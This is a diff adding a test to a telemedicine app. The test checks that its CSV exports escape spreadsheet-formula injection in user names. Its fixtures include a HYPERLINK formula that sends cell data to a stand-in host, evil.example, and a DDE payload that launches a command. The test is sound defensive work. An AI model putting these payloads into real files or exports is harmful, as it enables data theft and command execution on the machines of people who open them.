@@ -73,3 +73,25 @@ def test_exports_are_for_admins_and_check_their_range(login, district):
     admin = login(district.admin)
     assert admin.get("/exports/fhir?from=2026-05-01&to=2026-04-01").status_code == 422
     assert admin.get("/exports/consultations.csv?facility_id=424242").status_code == 422
+
+
+def test_no_csv_cell_can_be_a_spreadsheet_formula(app, login, district):
+    from telemed.extensions import db
+    from telemed.models import User
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with app.app_context():
+        db.session.get(User, district.feldsher_a.id).full_name = hostile
+        db.session.get(User, district.doctor.id).full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+        db.session.commit()
+    closed, _waiting, _other = history(login, district)
+    admin = login(district.admin)
+    rows = list(csv.DictReader(io.StringIO(admin.get("/exports/consultations.csv").get_data(as_text=True))))
+    mine = next(r for r in rows if r["id"] == closed["id"])
+    assert mine["requester"] == "'" + hostile
+    assert mine["doctor"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    every_cell = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in every_cell)
+    audit = admin.get("/exports/audit.csv").get_data(as_text=True)
+    details = [row["detail"] for row in csv.DictReader(io.StringIO(audit))]
+    assert details and all(isinstance(json.loads(d), dict) for d in details)   # JSON, not repr
